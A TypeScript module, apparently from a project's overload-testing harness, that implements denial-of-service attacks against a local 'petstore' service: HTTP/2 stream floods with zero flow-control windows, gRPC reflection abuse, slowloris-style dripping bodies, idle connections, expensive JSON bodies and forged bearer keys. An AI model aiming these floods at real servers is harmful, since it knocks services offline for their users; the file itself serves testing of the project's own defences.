/** What attacks send, by the thousand. */
import type { ClientHttp2Stream } from 'node:http2';
import { setTimeout as delay } from 'node:timers/promises';
import { generateKey } from '../../../src/access/keys/format.ts';
import { type AttackContext, forEachConnection } from './attack.ts';
import { type Fields, FrameSession } from './frames.ts';
import { Http1Connection } from './http1-connection.ts';
import { grpcFrame, grpcHeaders, openSession, openSocket } from './sockets.ts';

const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';

export function get(path: string): Fields {
  return { ':method': 'GET', ':scheme': 'http', ':path': path, ':authority': 'petstore' };
}

export function grpc(path: string): Fields {
  return { ...get(path), ':method': 'POST', 'content-type': 'application/grpc', te: 'trailers' };
}

interface Opening {
  readonly requests: readonly Fields[];
  readonly body?: Uint8Array;
  /** Whether the requests are complete. */
  readonly endStream?: boolean;
  /** The window of each stream. */
  readonly window?: number;
  /** Whether nothing is sent before all connections are open: an overload manager would notice a gradual load. */
  readonly atOnce?: boolean;
  /** After this time streams that have ended are opened again. */
  readonly againMs?: number;
  /** Whether those that have not ended are given up by then. */
  readonly givesUp?: boolean;
  readonly key?: 'own' | 'made up';
}

export const UNREAD = { endStream: true, window: 0, atOnce: true } as const;

export async function openStreams(
  { target, size, tally, signal, key }: AttackContext,
  opening: Opening,
): Promise<void> {
  const { requests, body, endStream = false, window, atOnce = false, againMs, givesUp = false, key: whose } = opening;
  const own = () => (whose === undefined ? {} : { authorization: `Bearer ${whose === 'own' ? key : generateKey()}` });
  const sessions: FrameSession[] = [];
  const sendOn = (session: FrameSession) => {
    if (givesUp) session.resetAll();
    for (let i = session.openStreams; i < Math.min(size.perConnection, session.maxStreams); i += 1) {
      const end = tally.start();
      const { ended } = session.request({ ...requests[i % requests.length], ...own() }, { endStream, body });
      void ended.then((outcome) => signal.aborted || end(outcome));
    }
  };
  await forEachConnection(size, async (index) => {
    const session = await FrameSession.open(target, index, window);
    if (session === undefined) return tally.add('refused connection', 0);
    // Envoy knows a key after its first request on each of its threads.
    if (whose === 'own') await session.request({ ...get('/pets'), ...own() }, { endStream: true }).ended;
    if (!atOnce) sendOn(session);
    sessions.push(session);
    const timer = againMs === undefined ? undefined : setInterval(() => sendOn(session), againMs);
    signal.addEventListener('abort', () => {
      clearInterval(timer);
      session.destroy();
    });
  });
  if (atOnce) sessions.forEach(sendOn);
}

/** Streams that repeat a small request, whose answer has several kilobytes, as fast as the other side takes it. */
export async function reflectUnread({ target, size, signal }: AttackContext): Promise<void> {
  const request = grpcFrame(Buffer.concat([Buffer.of(0x22, 22), Buffer.from('petstore.v1.PetService')]));
  const repeated = Buffer.concat(Array<Buffer>(100).fill(request));
  const repeat = (stream: ClientHttp2Stream): void => {
    if (stream.writable) stream.write(repeated, () => repeat(stream));
  };
  await forEachConnection(size, async (index) => {
    const session = await openSession(target, index, { initialWindowSize: 0 });
    signal.addEventListener('abort', () => session.destroy());
    for (let count = 0; count < size.perConnection; count += 1) {
      repeat(session.request(grpcHeaders(REFLECTION), { endStream: false }).on('error', () => undefined));
    }
  });
}

const JSON_TYPE = 'Content-Type: application/json\r\n';
/** It is expensive to parse. */
const MANY_NUMBERS = `[${'1,'.repeat(2 ** 19)}1]`;

function toRequest(method: string, path: string, lines: string, body?: string): Buffer {
  const length = body === undefined ? '' : `Content-Length: ${body.length}\r\n`;
  return Buffer.from(`${method} ${path} HTTP/1.1\r\nHost: petstore\r\n${lines}${length}\r\n${body ?? ''}`);
}

/** Sends a request again and again. `pauseMs` says after which time, by the headers of the response. */
async function exchangeRepeatedly(
  { target, tally, signal }: AttackContext,
  request: Buffer,
  pauseMs: (headers: Headers) => number,
): Promise<void> {
  const connection = new Http1Connection(target);
  signal.addEventListener('abort', () => connection.close());
  while (!signal.aborted) {
    const end = tally.start();
    const answer = await connection.exchange(request, { giveUpMs: 30_000 });
    if (signal.aborted) return;
    const isHard = typeof answer !== 'string' && answer.status === 503 && !answer.headers.has('retry-after');
    end(typeof answer === 'string' ? answer : `${answer.status}${isHard ? ' without Retry-After' : ''}`);
    const waitMs = typeof answer === 'string' ? 1_000 : pauseMs(answer.headers);
    if (waitMs > 0) await delay(waitMs, undefined, { signal }).catch(() => undefined);
  }
}

/** Callers with a key, each with one request at a time, and after a 503 none before Retry-After. */
export async function comeInCrowds(context: AttackContext): Promise<void> {
  const perAddress = 50;
  const request = toRequest('GET', '/pets', `Authorization: Bearer ${context.key}\r\n`);
  const come = async (index: number) => {
    const target = { ...context.target, from: [`127.0.1.${1 + Math.floor(index / perAddress)}`] as const };
    void exchangeRepeatedly({ ...context, target }, request, (headers) => 1_000 * Number(headers.get('retry-after')));
    await delay(1); // callers arrive over time
  };
  await forEachConnection(context.size, come, 4);
}

/** The same large body again and again. */
export async function sendHeavyBodies(context: AttackContext): Promise<void> {
  const request = toRequest('POST', '/pets', JSON_TYPE, MANY_NUMBERS);
  await forEachConnection(context.size, async () => void exchangeRepeatedly(context, request, () => 0));
}

/** Of a body of 1 MiB 60 kB come, and then a byte a second. Half of them have a key that needs a look-up. */
export async function sendEndlessBodies({ target, size, tally, signal }: AttackContext): Promise<void> {
  const toChunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;
  await forEachConnection(size, async (index) => {
    const isChunked = index % 2 === 1;
    const part = (text: string) => (isChunked ? toChunk(text) : text);
    const key = index % 4 < 2 ? `Authorization: Bearer ${generateKey()}\r\n` : '';
    const length = isChunked ? 'Transfer-Encoding: chunked\r\n' : `Content-Length: ${2 ** 20}\r\n`;
    const socket = openSocket(target, index);
    const end = tally.start();
    const dripping = setInterval(() => socket.write(part(' ')), 1_000);
    signal.addEventListener('abort', () => socket.destroy());
    socket.once('data', (answer: Buffer) => end(answer.toString('latin1').split(' ', 2)[1] ?? 'nonsense'));
    socket.once('close', () => {
      clearInterval(dripping);
      if (!signal.aborted) end('closed');
    });
    socket.write(toRequest('POST', '/pets', JSON_TYPE + key + length));
    socket.write(part(MANY_NUMBERS.slice(0, 60_000)));
    await delay(1);
  });
}

/** Connections that send nothing; some half a request, or the greeting of HTTP/2 alone. */
export async function idle({ target, size, tally, signal }: AttackContext): Promise<void> {
  const greeting = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u0004\0\0\0\0\0'; // RFC 9113, section 3.4
  await forEachConnection(size, async (index) => {
    const socket = openSocket(target, index).resume(); // without it the end is not noticed
    const end = tally.start();
    signal.addEventListener('abort', () => socket.destroy());
    socket.on('close', () => signal.aborted || end('closed'));
    await new Promise<void>((resolve) => socket.once('connect', resolve).once('close', resolve));
    if (index % 10 === 0) socket.write('GET /pets HTTP/1.1\r\nHost: ');
    if (index % 10 === 1) socket.write(greeting, 'latin1');
  });
}
